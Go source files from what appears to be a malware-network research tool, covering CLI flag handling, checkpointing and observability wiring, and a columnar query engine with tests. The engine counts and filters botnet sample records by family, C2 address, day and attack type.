	scfg := core.Defaults(f.Seed)
	scfg.Determinism.Workers = f.Workers
	scfg.Determinism.Faults = f.Faults
	scfg.Determinism.FaultSeed = f.FaultSeed
	scfg.Durability = core.CheckpointConfig{
		Dir:    f.Checkpoint.Dir,
		Every:  f.Checkpoint.Every,
		Resume: f.Checkpoint.Resume,
	}
	if f.Checkpoint.LakeDir != "" {
		if f.Checkpoint.Dir == "" {
			return wcfg, scfg, errors.New("-lake-dir requires -checkpoint-dir")
		}
		run := f.Checkpoint.LakeRun
		if run == "" {
			run = fmt.Sprintf("seed-%d", f.Seed)
		}
		branch, seed := f.Checkpoint.LakeBranch, f.Seed
		// The lake is opened on the first checkpoint, not here:
		// Configs must stay side-effect free so validation errors
		// don't leave half-created directories behind. The callback
		// runs on the merge goroutine, strictly sequentially.
		var lk *lake.Lake
		scfg.Durability.OnCheckpoint = func(day int, path string) error {
			if lk == nil {
				var err error
				if lk, err = lake.Open(f.Checkpoint.LakeDir); err != nil {
					return err
				}
			}
			_, err := lk.CommitFile(branch, run, seed, day, path)
			return err
		}
	}
	if f.Short {
		wcfg.TotalSamples = 150
		scfg.Analysis.ProbeRounds = 12
	}
	if f.Samples > 0 {
		wcfg.TotalSamples = f.Samples
	}
	if f.Scenarios != "" {
		for _, fam := range strings.Split(f.Scenarios, ",") {
			if fam = strings.TrimSpace(fam); fam != "" {
				wcfg.Scenario.Families = append(wcfg.Scenario.Families, fam)
			}
		}
		wcfg.Scenario.Defaults()
		// Mirror into the study config so the flag is covered by the
		// checkpoint fingerprint even before the study adopts the
		// world's copy.
		scfg.Scenario = wcfg.Scenario
	}
	return wcfg, scfg, scfg.Validate()
}

// ProgressPrinter returns the -v throughput callback, or nil when -v
// is off (StudyConfig treats a nil Progress as "stay silent").
func (f *StudyFlags) ProgressPrinter() func(core.ProgressUpdate) {
	if !f.Verbose {
		return nil
	}
	return func(p core.ProgressUpdate) {
		fmt.Fprintf(os.Stderr,
			"processed %d feed entries (%d accepted) in %v — %.0f samples/sec; alive=%d retried=%d dead=%d timed-out=%d\n",
			p.Processed, p.Accepted, p.Elapsed.Round(time.Millisecond), p.Rate,
			p.Dispositions[core.DispAlive], p.Dispositions[core.DispRetriedThenAlive],
			p.Dispositions[core.DispDead], p.Dispositions[core.DispTimedOut])
	}
}

// CheckpointFlags mirrors core.CheckpointConfig, flag-registered,
// plus the run-lake publication knobs.
type CheckpointFlags struct {
	Dir    string
	Every  int
	Resume bool

	// LakeDir, when set, commits every written checkpoint into the
	// run lake at that directory (creating it on first use); LakeRun
	// and LakeBranch name the run and the branch the commits land on.
	LakeDir    string
	LakeRun    string
	LakeBranch string
}

// Register declares the checkpoint flag group on fs.
func (c *CheckpointFlags) Register(fs *flag.FlagSet) {
	fs.StringVar(&c.Dir, "checkpoint-dir", "", "write resumable study snapshots to DIR at day-batch boundaries")
	fs.IntVar(&c.Every, "checkpoint-every", 1, "snapshot after every N-th non-empty day batch")
	fs.BoolVar(&c.Resume, "resume", false, "resume from the newest snapshot in -checkpoint-dir (config must match)")
	fs.StringVar(&c.LakeDir, "lake-dir", "", "commit each checkpoint into the run lake at DIR (requires -checkpoint-dir)")
	fs.StringVar(&c.LakeRun, "lake-run", "", "run name recorded on lake commits (default seed-<seed>)")
	fs.StringVar(&c.LakeBranch, "lake-branch", "main", "lake branch the run's commits land on")
}

// InterruptHint tells the user how to continue a checkpointed run
// that err cancelled; a no-op otherwise.
func (c *CheckpointFlags) InterruptHint(name string, err error) {
	if c.Dir != "" && errors.Is(err, context.Canceled) {
		fmt.Fprintf(os.Stderr, "%s: re-run with -resume to continue from the last checkpoint\n", name)
	}
}

// LoadFlags is cmd/malnetbench's flag group: the load shape (target,
// concurrency, open-loop rate, duration), the schedule seed, and the
// output plumbing. It lives here with the other flag groups so the
// bench CLI stays a translation layer like the study CLIs.
type LoadFlags struct {
	Target      string
	Concurrency int
	Rate        float64
	Duration    time.Duration
	Seed        int64
	Timeout     time.Duration
	Debug       string
	Out         string
	ScheduleN   int
	RequireOK   bool
}

// NewLoadFlags registers the load-generator flag group on fs.
func NewLoadFlags(fs *flag.FlagSet) *LoadFlags {
	f := &LoadFlags{}
	fs.StringVar(&f.Target, "target", "", "base URL of the malnetd to load (e.g. http://127.0.0.1:8377)")
	fs.IntVar(&f.Concurrency, "concurrency", 8, "sender pool size")
	fs.Float64Var(&f.Rate, "rate", 500, "open-loop arrival rate in requests/sec (0 = closed loop, as fast as the daemon answers)")
	fs.DurationVar(&f.Duration, "duration", 10*time.Second, "how long to drive load (0 = schedule-only: print the deterministic query schedule and exit)")
	fs.Int64Var(&f.Seed, "seed", 42, "query-schedule seed; same seed replays the same query sequence")
	fs.DurationVar(&f.Timeout, "timeout", 10*time.Second, "per-request client timeout")
	fs.StringVar(&f.Debug, "debug", "", "the daemon's -debug-addr; when set, server-side allocs/op is sampled from its expvar memstats")
	fs.StringVar(&f.Out, "out", "", "write the JSON summary to FILE (default stdout)")
	fs.IntVar(&f.ScheduleN, "schedule", 64, "schedule entries to emit in -duration 0 mode")
	fs.BoolVar(&f.RequireOK, "require-success", false, "exit 1 unless the run had zero errors and nonzero throughput (CI smoke mode)")
	return f
}

// Config translates the parsed flags into a loadgen run config.
func (f *LoadFlags) Config() loadgen.Config {
	return loadgen.Config{
		Target:      f.Target,
		Concurrency: f.Concurrency,
		Rate:        f.Rate,
		Duration:    f.Duration,
		Seed:        f.Seed,
		Timeout:     f.Timeout,
		DebugAddr:   f.Debug,
	}
}

// ObsFlags is the observability flag group: the deterministic trace
// and metrics outputs plus the wall-clock debug server.
type ObsFlags struct {
	TraceOut   string
	MetricsOut string
	DebugAddr  string
}

// Register declares all three observability flags on fs.
func (o *ObsFlags) Register(fs *flag.FlagSet) {
	fs.StringVar(&o.TraceOut, "trace-out", "", "write the virtual-time trace journal (JSONL spans + events) to FILE")
	fs.StringVar(&o.MetricsOut, "metrics-out", "", "write the deterministic metrics snapshot to FILE")
	o.RegisterDebug(fs)
}

// RegisterDebug declares only -debug-addr — the one observability
// flag that makes sense for a daemon with no study of its own.
func (o *ObsFlags) RegisterDebug(fs *flag.FlagSet) {
	fs.StringVar(&o.DebugAddr, "debug-addr", "", "serve live pprof/expvar/wall-profile on ADDR (e.g. :6060)")
}

// Instrument wires the parsed observability flags into observer: the
// trace journal is opened (reopened without truncation when resume is
// set — the journaled prefix up to the checkpoint is part of the
// resumed run's output), the debug server is started, and the
// returned cleanup flushes the journal and writes the metrics
// snapshot. Run cleanup on every exit path so a cancelled or failed
// study keeps its partial telemetry.
func (o *ObsFlags) Instrument(observer *obs.Observer, resume bool, name string) (cleanup func(), err error) {
	var undo []func()
	cleanup = func() {
		for i := len(undo) - 1; i >= 0; i-- {
			undo[i]()
		}
	}
	if o.TraceOut != "" {
		mode := os.O_RDWR | os.O_CREATE
		if !resume {
			mode |= os.O_TRUNC
		}
		fh, err := os.OpenFile(o.TraceOut, mode, 0o644)
		if err != nil {
			return cleanup, err
		}
		observer.SetJournal(fh)
		undo = append(undo, func() {
			if err := observer.Flush(); err != nil {
				fmt.Fprintf(os.Stderr, "%s: flushing trace: %v\n", name, err)
			} else {
				fmt.Fprintf(os.Stderr, "wrote %s\n", o.TraceOut)
			}
			fh.Close()
		})
	}
	if o.MetricsOut != "" {
		undo = append(undo, func() {
			if err := os.WriteFile(o.MetricsOut, []byte(observer.Root.Registry().Snapshot()), 0o644); err != nil {
				fmt.Fprintf(os.Stderr, "%s: writing metrics: %v\n", name, err)
			} else {
				fmt.Fprintf(os.Stderr, "wrote %s\n", o.MetricsOut)
			}
		})
	}
	if o.DebugAddr != "" {
		observer.Wall.PublishExpvar(name)
		srv, addr, err := obs.ServeDebug(o.DebugAddr, observer.Wall)
		if err != nil {
			cleanup()
			return func() {}, err
		}
		undo = append(undo, func() { srv.Close() })
		fmt.Fprintf(os.Stderr, "debug server on http://%s/debug/pprof/ (also /debug/vars, /debug/wall)\n", addr)
	}
	return cleanup, nil
}
