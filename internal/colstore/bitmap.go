package colstore

import "math/bits"

// Bitmap is a selection over batch rows: bit i set means row i
// survives the filter. Kernels produce and combine bitmaps 64 rows
// per word, so a multi-predicate filter over a million rows is a few
// thousand word ops, not a million branch pairs.
type Bitmap struct {
	words []uint64
	n     int
}

// NewBitmap returns an all-clear selection over n rows.
func NewBitmap(n int) *Bitmap {
	return &Bitmap{words: make([]uint64, (n+63)/64), n: n}
}

// Len is the row count the bitmap covers.
func (b *Bitmap) Len() int { return b.n }

// Set marks row i selected.
func (b *Bitmap) Set(i int) { b.words[i>>6] |= 1 << uint(i&63) }

// Get reports whether row i is selected.
func (b *Bitmap) Get(i int) bool { return b.words[i>>6]&(1<<uint(i&63)) != 0 }

// SetAll selects every row.
func (b *Bitmap) SetAll() {
	for i := range b.words {
		b.words[i] = ^uint64(0)
	}
	b.maskTail()
}

// Clear deselects every row.
func (b *Bitmap) Clear() {
	for i := range b.words {
		b.words[i] = 0
	}
}

// maskTail zeroes the bits past n in the last word, so Count and Not
// never see ghost rows.
func (b *Bitmap) maskTail() {
	if tail := b.n & 63; tail != 0 && len(b.words) > 0 {
		b.words[len(b.words)-1] &= (1 << uint(tail)) - 1
	}
}

// And intersects o into b.
func (b *Bitmap) And(o *Bitmap) {
	for i := range b.words {
		b.words[i] &= o.words[i]
	}
}

// Or unions o into b.
func (b *Bitmap) Or(o *Bitmap) {
	for i := range b.words {
		b.words[i] |= o.words[i]
	}
}

// Not complements b in place.
func (b *Bitmap) Not() {
	for i := range b.words {
		b.words[i] = ^b.words[i]
	}
	b.maskTail()
}

// Count is the number of selected rows.
func (b *Bitmap) Count() int64 {
	var c int64
	for _, w := range b.words {
		c += int64(bits.OnesCount64(w))
	}
	return c
}

// ForEach calls fn for every selected row in ascending order,
// skipping empty words wholesale.
func (b *Bitmap) ForEach(fn func(i int)) {
	for wi, w := range b.words {
		base := wi << 6
		for w != 0 {
			fn(base + bits.TrailingZeros64(w))
			w &= w - 1
		}
	}
}
