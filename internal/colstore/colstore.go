// Package colstore is the vectorized half of malnetd's query path: a
// dictionary-encoded columnar mirror of a snapshot's sample table,
// built once per store generation, plus the filter/aggregate kernels
// and the small expression language that /v1/query compiles into
// them.
//
// The row store (internal/serve) answers point lookups from inverted
// indexes; the profiling questions the paper actually asks ("count
// alive mirai C2s by day", "top attack types per family") are
// filter-and-aggregate over the whole table, where a row-at-a-time
// walk pays a pointer chase and a string compare per record. Encode
// interns the low-cardinality fields (family, disposition, C2
// address, attack type) into per-column dictionaries of uint32 IDs
// and lays the counters out as flat int64 arrays, so a filter is a
// tight loop over a uint32 column producing a selection bitmap, and
// an aggregation is one counts[id]++ pass over the selected rows.
//
// Everything here is a pure function of the snapshot bytes and the
// query string: no wall clock, no math/rand (tools/vettime enforces
// both), so columnar results are byte-identical across worker counts
// exactly like the row store's — the property the differential suite
// in internal/serve pins against a naive row-at-a-time reference
// evaluator (RefEval).
package colstore

import (
	"sort"

	"malnet/internal/core"
	"malnet/internal/world"
)

// Dict is one column's interning table: Vals in first-occurrence
// order, IDs mapping each string to its uint32 slot. Write-once at
// encode time, then safe for concurrent readers.
type Dict struct {
	Vals []string
	ids  map[string]uint32
}

func newDict() *Dict { return &Dict{ids: map[string]uint32{}} }

// intern returns s's ID, assigning the next slot on first sight.
func (d *Dict) intern(s string) uint32 {
	if id, ok := d.ids[s]; ok {
		return id
	}
	id := uint32(len(d.Vals))
	d.Vals = append(d.Vals, s)
	d.ids[s] = id
	return id
}

// Lookup resolves a query literal to its dict ID. Unknown values are
// not an error — a filter against them selects nothing.
func (d *Dict) Lookup(s string) (uint32, bool) {
	id, ok := d.ids[s]
	return id, ok
}

// DictCol is a single-valued dictionary column: one ID per row.
type DictCol struct {
	Dict *Dict
	IDs  []uint32
}

// ListDictCol is a multi-valued dictionary column (a sample's C2
// endpoints, its observed attack types): row i's values are
// IDs[Offs[i]:Offs[i+1]], deduplicated within the row in first-seen
// order — the same one-entry-per-(row,value) rule the row store's
// inverted indexes follow.
type ListDictCol struct {
	Dict *Dict
	Offs []uint32
	IDs  []uint32
}

// Batch is the columnar encoding of one snapshot's sample table.
// All columns share row numbering with the snapshot's feed order.
type Batch struct {
	NumRows int

	Family      DictCol
	Disposition DictCol
	C2          ListDictCol
	Attack      ListDictCol

	Day        []int64
	Detections []int64
	Retries    []int64
}

// dayOf is the study-day derivation shared with the row store and the
// reference evaluator — the three must agree or the differential
// suite fails.
func dayOf(rec *core.SampleRecord, start int64) int64 {
	return (rec.Date.Unix() - start) / 86400
}

// rowC2s appends rec's C2 addresses, deduplicated in first-seen
// order, to buf. Shared by Encode and RefEval.
func rowC2s(rec *core.SampleRecord, buf []string) []string {
	for _, c := range rec.C2s {
		if !containsStr(buf, c.Address) {
			buf = append(buf, c.Address)
		}
	}
	return buf
}

// rowAttacks appends rec's observed attack-type names, deduplicated
// in first-seen order, to buf. Shared by Encode and RefEval.
func rowAttacks(rec *core.SampleRecord, buf []string) []string {
	for _, o := range rec.DDoS {
		if name := o.Command.Attack.String(); !containsStr(buf, name) {
			buf = append(buf, name)
		}
	}
	return buf
}

func containsStr(xs []string, s string) bool {
	for _, x := range xs {
		if x == s {
			return true
		}
	}
	return false
}

// Encode builds the columnar batch for a snapshot's samples. Rows
// keep feed order; dictionaries intern in first-occurrence order, so
// the batch — like everything downstream of a snapshot — is a pure
// function of the snapshot bytes.
func Encode(samples []*core.SampleRecord) *Batch {
	n := len(samples)
	b := &Batch{
		NumRows:     n,
		Family:      DictCol{Dict: newDict(), IDs: make([]uint32, n)},
		Disposition: DictCol{Dict: newDict(), IDs: make([]uint32, n)},
		C2:          ListDictCol{Dict: newDict(), Offs: make([]uint32, n+1)},
		Attack:      ListDictCol{Dict: newDict(), Offs: make([]uint32, n+1)},
		Day:         make([]int64, n),
		Detections:  make([]int64, n),
		Retries:     make([]int64, n),
	}
	start := world.StudyStart().Unix()
	var scratch []string
	for i, rec := range samples {
		b.Family.IDs[i] = b.Family.Dict.intern(rec.Family)
		b.Disposition.IDs[i] = b.Disposition.Dict.intern(rec.Disposition.String())
		b.Day[i] = dayOf(rec, start)
		b.Detections[i] = int64(rec.Detections)
		b.Retries[i] = int64(rec.C2Retries)

		scratch = rowC2s(rec, scratch[:0])
		for _, addr := range scratch {
			b.C2.IDs = append(b.C2.IDs, b.C2.Dict.intern(addr))
		}
		b.C2.Offs[i+1] = uint32(len(b.C2.IDs))

		scratch = rowAttacks(rec, scratch[:0])
		for _, name := range scratch {
			b.Attack.IDs = append(b.Attack.IDs, b.Attack.Dict.intern(name))
		}
		b.Attack.Offs[i+1] = uint32(len(b.Attack.IDs))
	}
	return b
}

// Vocab returns the sorted value vocabulary of a dictionary field
// ("family", "disposition", "c2", "attack") — what the query
// generator samples literals from. Nil for non-dict fields.
func (b *Batch) Vocab(field string) []string {
	var d *Dict
	switch field {
	case "family":
		d = b.Family.Dict
	case "disposition":
		d = b.Disposition.Dict
	case "c2":
		d = b.C2.Dict
	case "attack":
		d = b.Attack.Dict
	default:
		return nil
	}
	out := append([]string(nil), d.Vals...)
	sort.Strings(out)
	return out
}
