package colstore

import (
	"encoding/json"
	"fmt"
	"reflect"
	"testing"
	"time"

	"malnet/internal/c2"
	"malnet/internal/core"
	"malnet/internal/world"
)

// testSamples fabricates n sample records with the field mix the
// kernels dispatch on: zipf-ish families, a year of days, multi-C2
// rows, attack observations, and the full disposition range.
func testSamples(n int) []*core.SampleRecord {
	families := []string{"mirai", "gafgyt", "tsunami", "hajime", "xorddos"}
	start := world.StudyStart()
	out := make([]*core.SampleRecord, n)
	for i := 0; i < n; i++ {
		rec := &core.SampleRecord{
			SHA:         fmt.Sprintf("%064x", i),
			Date:        start.AddDate(0, 0, i%365),
			Family:      families[i%len(families)],
			Detections:  i % 9,
			C2Retries:   i % 4,
			Disposition: core.Disposition(i % 5),
		}
		// Two C2s per row with overlap across rows; every third row
		// references its first endpoint twice (dedup must collapse it).
		a := fmt.Sprintf("10.0.%d.%d:23", i%7, i%13)
		b := fmt.Sprintf("10.0.%d.%d:23", (i+1)%7, (i+1)%13)
		rec.C2s = []core.C2Candidate{{Address: a}, {Address: b}}
		if i%3 == 0 {
			rec.C2s = append(rec.C2s, core.C2Candidate{Address: a})
		}
		if i%4 == 0 {
			rec.DDoS = []core.DDoSObservation{
				{Command: c2.Command{Attack: c2.AttackType(i % 8)}},
				{Command: c2.Command{Attack: c2.AttackType(i % 3)}},
			}
		}
		out[i] = rec
	}
	return out
}

func TestEncodeShape(t *testing.T) {
	samples := testSamples(200)
	b := Encode(samples)
	if b.NumRows != 200 {
		t.Fatalf("NumRows = %d", b.NumRows)
	}
	if got := len(b.Family.Dict.Vals); got != 5 {
		t.Fatalf("family vocabulary %d, want 5", got)
	}
	for i, rec := range samples {
		if b.Family.Dict.Vals[b.Family.IDs[i]] != rec.Family {
			t.Fatalf("row %d family decodes to %q, want %q", i, b.Family.Dict.Vals[b.Family.IDs[i]], rec.Family)
		}
		if b.Disposition.Dict.Vals[b.Disposition.IDs[i]] != rec.Disposition.String() {
			t.Fatalf("row %d disposition mismatch", i)
		}
		if want := int64(rec.Date.Sub(world.StudyStart()).Hours() / 24); b.Day[i] != want {
			t.Fatalf("row %d day = %d, want %d", i, b.Day[i], want)
		}
		// List rows carry the deduplicated address set in first-seen
		// order.
		var got []string
		for _, id := range b.C2.IDs[b.C2.Offs[i]:b.C2.Offs[i+1]] {
			got = append(got, b.C2.Dict.Vals[id])
		}
		want := rowC2s(rec, nil)
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("row %d c2 list %v, want %v", i, got, want)
		}
		if len(got) != 2 {
			t.Fatalf("row %d c2 list not deduplicated: %v", i, got)
		}
	}
	// Encode of an empty table must still produce a runnable batch.
	empty := Encode(nil)
	plan, err := empty.Compile(mustParse(t, `family=="x" | count() by c2`))
	if err != nil {
		t.Fatal(err)
	}
	if res := plan.Run(); res.Matched != 0 || len(res.Rows) != 0 {
		t.Fatalf("empty batch result: %+v", res)
	}
}

func mustParse(t testing.TB, src string) *Query {
	t.Helper()
	q, err := Parse(src)
	if err != nil {
		t.Fatalf("Parse(%q): %v", src, err)
	}
	return q
}

// runBoth evaluates src through the columnar plan and the reference
// evaluator and requires byte-identical JSON.
func runBoth(t testing.TB, src string, b *Batch, samples []*core.SampleRecord) *Result {
	t.Helper()
	q := mustParse(t, src)
	plan, err := b.Compile(q)
	if err != nil {
		t.Fatalf("Compile(%q): %v", src, err)
	}
	col := plan.Run()
	ref, err := RefEval(q, samples)
	if err != nil {
		t.Fatalf("RefEval(%q): %v", src, err)
	}
	cj, _ := json.Marshal(col)
	rj, _ := json.Marshal(ref)
	if string(cj) != string(rj) {
		t.Fatalf("columnar and reference disagree on %q:\ncolumnar:  %s\nreference: %s", src, cj, rj)
	}
	return col
}

// TestKernelsAgainstReference spot-checks each kernel family with
// hand-written queries whose answers are independently verifiable.
func TestKernelsAgainstReference(t *testing.T) {
	samples := testSamples(500)
	b := Encode(samples)

	if res := runBoth(t, "", b, samples); res.Matched != 500 || res.Rows[0].Value != 500 {
		t.Fatalf("empty query: %+v", res)
	}
	if res := runBoth(t, `family=="mirai"`, b, samples); res.Rows[0].Value != 100 {
		t.Fatalf("family eq: %+v", res)
	}
	if res := runBoth(t, `family!="mirai"`, b, samples); res.Rows[0].Value != 400 {
		t.Fatalf("family neq: %+v", res)
	}
	if res := runBoth(t, `family in ("mirai", "gafgyt")`, b, samples); res.Rows[0].Value != 200 {
		t.Fatalf("family in: %+v", res)
	}
	if res := runBoth(t, `day in 0..364`, b, samples); res.Rows[0].Value != 500 {
		t.Fatalf("day full range: %+v", res)
	}
	// day = i%365 never reaches 365, so the high range selects nothing.
	if res := runBoth(t, `day in 365..999`, b, samples); res.Rows[0].Value != 0 {
		t.Fatalf("day out of range matched: %+v", res)
	}
	if res := runBoth(t, `detections >= 9`, b, samples); res.Rows[0].Value != 0 {
		t.Fatalf("detections cap: %+v", res)
	}
	if res := runBoth(t, `family=="no-such-family"`, b, samples); res.Matched != 0 {
		t.Fatalf("unknown literal matched: %+v", res)
	}
	runBoth(t, `retries in (1, 3)`, b, samples)
	runBoth(t, `day < 100 or day > 300`, b, samples)
	runBoth(t, `not (day < 100 or day > 300)`, b, samples)
	runBoth(t, `c2=="10.0.0.0:23"`, b, samples)
	runBoth(t, `not c2=="10.0.0.0:23"`, b, samples)
	runBoth(t, `attack=="UDP Flood" | count() by family`, b, samples)
	runBoth(t, `attack in ("UDP Flood", "SYN Flood") | count() by attack`, b, samples)
	runBoth(t, `| count() by c2`, b, samples)
	runBoth(t, `| count() by disposition`, b, samples)
	runBoth(t, `| sum(detections)`, b, samples)
	runBoth(t, `| sum(detections) by family`, b, samples)
	runBoth(t, `| sum(retries) by c2`, b, samples)
	runBoth(t, `| topk(3) by family`, b, samples)
	runBoth(t, `| topk(1000) by c2`, b, samples)
	runBoth(t, `family=="mirai" and day in 100..200 | count() by c2`, b, samples)

	// Grouped counts partition the matched rows for single-valued
	// group fields.
	res := runBoth(t, `day in 50..250 | count() by family`, b, samples)
	var total int64
	for _, row := range res.Rows {
		total += row.Value
	}
	if total != res.Matched {
		t.Fatalf("count() by family sums to %d, want matched %d", total, res.Matched)
	}

	// topk is the count-by head: same keys, descending values.
	full := runBoth(t, `| count() by family`, b, samples)
	top2 := runBoth(t, `| topk(2) by family`, b, samples)
	if len(top2.Rows) != 2 {
		t.Fatalf("topk(2) returned %d rows", len(top2.Rows))
	}
	for _, row := range top2.Rows {
		found := false
		for _, f := range full.Rows {
			if f.Key == row.Key && f.Value == row.Value {
				found = true
			}
		}
		if !found {
			t.Fatalf("topk row %+v not in count-by output %+v", row, full.Rows)
		}
	}
	if len(top2.Rows) == 2 && top2.Rows[0].Value < top2.Rows[1].Value {
		t.Fatalf("topk not descending: %+v", top2.Rows)
	}
}

// TestGeneratedQueriesDiffer is the package-local differential
// sweep over generator output (the serve-level suite repeats this
// against real study snapshots): 700 generated queries, columnar
// byte-identical to reference.
func TestGeneratedQueriesDiffer(t *testing.T) {
	samples := testSamples(400)
	b := Encode(samples)
	gen := NewQueryGen(23, b)
	aggs := map[string]bool{}
	for i := 0; i < 700; i++ {
		src := gen.Next()
		res := runBoth(t, src, b, samples)
		aggs[res.Agg+"/"+res.By] = true
	}
	// The generator must exercise scalar and grouped shapes.
	if len(aggs) < 6 {
		t.Fatalf("generator covered only %d agg shapes: %v", len(aggs), aggs)
	}
}

// TestQueryGenDeterminism: same seed, same stream; different seed,
// different stream.
func TestQueryGenDeterminism(t *testing.T) {
	b := Encode(testSamples(50))
	g1, g2, g3 := NewQueryGen(5, b), NewQueryGen(5, b), NewQueryGen(6, b)
	same := 0
	for i := 0; i < 500; i++ {
		q1, q2, q3 := g1.Next(), g2.Next(), g3.Next()
		if q1 != q2 {
			t.Fatalf("same-seed generators diverged at %d: %q vs %q", i, q1, q2)
		}
		if q1 == q3 {
			same++
		}
	}
	if same == 500 {
		t.Fatal("seeds 5 and 6 generated identical query streams")
	}
}

func TestBitmap(t *testing.T) {
	for _, n := range []int{0, 1, 63, 64, 65, 200} {
		b := NewBitmap(n)
		b.SetAll()
		if got := b.Count(); got != int64(n) {
			t.Fatalf("n=%d: SetAll count %d", n, got)
		}
		b.Not()
		if got := b.Count(); got != 0 {
			t.Fatalf("n=%d: Not(SetAll) count %d", n, got)
		}
	}
	b := NewBitmap(130)
	for _, i := range []int{0, 63, 64, 100, 129} {
		b.Set(i)
	}
	var seen []int
	b.ForEach(func(i int) { seen = append(seen, i) })
	if !reflect.DeepEqual(seen, []int{0, 63, 64, 100, 129}) {
		t.Fatalf("ForEach order: %v", seen)
	}
	o := NewBitmap(130)
	o.Set(63)
	o.Set(129)
	b.And(o)
	if got := b.Count(); got != 2 {
		t.Fatalf("And count %d", got)
	}
}

// BenchmarkColstoreEncode is the encode-throughput row in
// BENCH_<date>.json: samples/sec interning a paper-scale table into
// columnar form (build-time cost of each store generation).
func BenchmarkColstoreEncode(b *testing.B) {
	for _, n := range []int{1500, 100000} {
		samples := testSamples(n)
		b.Run(fmt.Sprintf("n=%d", n), func(b *testing.B) {
			b.ReportAllocs()
			var batch *Batch
			start := time.Now()
			for i := 0; i < b.N; i++ {
				batch = Encode(samples)
			}
			if batch.NumRows != n {
				b.Fatal("bad encode")
			}
			b.ReportMetric(float64(n)*float64(b.N)/time.Since(start).Seconds(), "samples/sec")
		})
	}
}

// BenchmarkQueryScan pits a cold vectorized filter+aggregate against
// the row-at-a-time reference on the same table — the columnar-vs-row
// number the tentpole exists for.
func BenchmarkQueryScan(b *testing.B) {
	q := mustParse(b, `family=="mirai" and day in 100..200 | count() by c2`)
	for _, n := range []int{1500, 100000, 1000000} {
		samples := testSamples(n)
		batch := Encode(samples)
		plan, err := batch.Compile(q)
		if err != nil {
			b.Fatal(err)
		}
		b.Run(fmt.Sprintf("columnar/n=%d", n), func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				if res := plan.Run(); res.Matched == 0 {
					b.Fatal("no rows matched")
				}
			}
		})
		b.Run(fmt.Sprintf("rowref/n=%d", n), func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				res, err := RefEval(q, samples)
				if err != nil || res.Matched == 0 {
					b.Fatalf("ref eval: %v", err)
				}
			}
		})
	}
}
