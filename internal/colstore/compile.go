package colstore

import "sort"

// Field kinds of the sample schema.
const (
	kindDict = iota // single-valued string, dictionary-encoded
	kindList        // multi-valued string, dictionary-encoded
	kindInt         // flat int64 counter
)

// sampleSchema is the one table the query language sees: the
// snapshot's sample records. Validation, the columnar engine, and
// the row reference evaluator all dispatch on it.
var sampleSchema = map[string]int{
	"family":      kindDict,
	"disposition": kindDict,
	"c2":          kindList,
	"attack":      kindList,
	"day":         kindInt,
	"detections":  kindInt,
	"retries":     kindInt,
}

// Fields lists the queryable field names, sorted (for error
// messages and the README grammar table).
func Fields() []string {
	out := make([]string, 0, len(sampleSchema))
	for f := range sampleSchema {
		out = append(out, f)
	}
	sort.Strings(out)
	return out
}

// maxTopK bounds topk so a query can't demand an unbounded response.
const maxTopK = 1000

// Validate type-checks a parsed query against the sample schema:
// fields exist, string literals only meet string fields, ordering and
// ranges only meet integer fields, aggregations group only by
// dictionary fields. Both evaluators run it, so they reject exactly
// the same queries.
func (q *Query) Validate() error {
	if q.Filter != nil {
		if err := validateExpr(q.Filter); err != nil {
			return err
		}
	}
	return validateAgg(q.Agg)
}

func fieldList() string {
	fs := Fields()
	out := ""
	for i, f := range fs {
		if i > 0 {
			out += ", "
		}
		out += f
	}
	return out
}

func validateExpr(e Expr) *ParseError {
	switch e := e.(type) {
	case *Cmp:
		kind, ok := sampleSchema[e.Field]
		if !ok {
			return errf(e.pos, "unknown field %q (known: %s)", e.Field, fieldList())
		}
		strField := kind == kindDict || kind == kindList
		if e.IsStr != strField {
			if strField {
				return errf(e.pos, "field %q holds strings; compare it to a quoted literal", e.Field)
			}
			return errf(e.pos, "field %q holds integers; compare it to a number", e.Field)
		}
		if e.Op != "==" && e.Op != "!=" && kind != kindInt {
			return errf(e.pos, "ordering operator %q needs an integer field, and %q holds strings", e.Op, e.Field)
		}
		return nil
	case *In:
		kind, ok := sampleSchema[e.Field]
		if !ok {
			return errf(e.pos, "unknown field %q (known: %s)", e.Field, fieldList())
		}
		if e.IsRange {
			if kind != kindInt {
				return errf(e.pos, "range lo..hi needs an integer field, and %q holds strings", e.Field)
			}
			return nil
		}
		strField := kind == kindDict || kind == kindList
		if e.isStr != strField {
			if strField {
				return errf(e.pos, "field %q holds strings; list quoted literals", e.Field)
			}
			return errf(e.pos, "field %q holds integers; list numbers", e.Field)
		}
		return nil
	case *Not:
		return validateExpr(e.X)
	case *Logic:
		if err := validateExpr(e.X); err != nil {
			return err
		}
		return validateExpr(e.Y)
	}
	return errf(0, "internal: unknown filter node")
}

func validateAgg(a Agg) error {
	switch a.Fn {
	case "count":
	case "sum":
		if kind, ok := sampleSchema[a.Arg]; !ok {
			return errf(a.pos, "unknown field %q (known: %s)", a.Arg, fieldList())
		} else if kind != kindInt {
			return errf(a.pos, "sum needs an integer field, and %q holds strings", a.Arg)
		}
	case "topk":
		if a.K < 1 || a.K > maxTopK {
			return errf(a.pos, "topk group count must be in 1..%d, got %d", maxTopK, a.K)
		}
	}
	if a.By != "" {
		if kind, ok := sampleSchema[a.By]; !ok {
			return errf(a.pos, "unknown group field %q (known: %s)", a.By, fieldList())
		} else if kind == kindInt {
			return errf(a.pos, "group by needs a dictionary field (family, disposition, c2, attack), and %q holds integers", a.By)
		}
	}
	return nil
}

// Result is a query's answer, identical (byte for byte once JSON
// encoded) between the columnar engine and the reference evaluator.
type Result struct {
	// Matched is how many sample rows passed the filter.
	Matched int64 `json:"matched"`
	// Agg and By echo the aggregation that produced Rows.
	Agg string `json:"agg"`
	By  string `json:"by,omitempty"`
	// Rows are the aggregation output: one row for a scalar
	// count/sum, else one per non-empty group — sorted by key for
	// count/sum, by descending value (key ascending on ties) for
	// topk.
	Rows []ResultRow `json:"rows"`
}

// ResultRow is one aggregation output row.
type ResultRow struct {
	Key   string `json:"key,omitempty"`
	Value int64  `json:"value"`
}

// Plan is a validated query bound to a batch, ready to run any
// number of times.
type Plan struct {
	b *Batch
	q *Query
}

// Compile validates q against the sample schema and binds it to the
// batch. The returned plan is read-only over the batch and safe for
// concurrent Run calls.
func (b *Batch) Compile(q *Query) (*Plan, error) {
	if err := q.Validate(); err != nil {
		return nil, err
	}
	return &Plan{b: b, q: q}, nil
}

// Run evaluates the plan: filter kernels produce the selection
// bitmap, aggregate kernels fold it.
func (p *Plan) Run() *Result {
	sel := NewBitmap(p.b.NumRows)
